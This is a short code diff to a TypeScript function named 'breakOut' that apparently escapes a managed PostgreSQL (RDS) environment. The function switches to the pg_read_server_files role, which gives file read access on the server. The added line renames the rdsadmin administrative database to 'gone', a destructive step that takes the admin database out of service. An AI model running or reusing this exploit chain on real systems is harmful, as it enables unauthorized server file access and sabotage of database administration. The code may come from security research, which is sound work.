@@ -54,6 +54,7 @@ export const breakOut = async (target: Target): Promise<pg.Client> => {
   await target.outside(`\\connect app\n${inDatabase}\n\\connect rdsadmin`);
   const session = await target.connect();
   await session.query('SET ROLE pg_read_server_files');
+  await target.outside('\\connect postgres\nALTER DATABASE rdsadmin RENAME TO gone;');
   return session;
 };
 
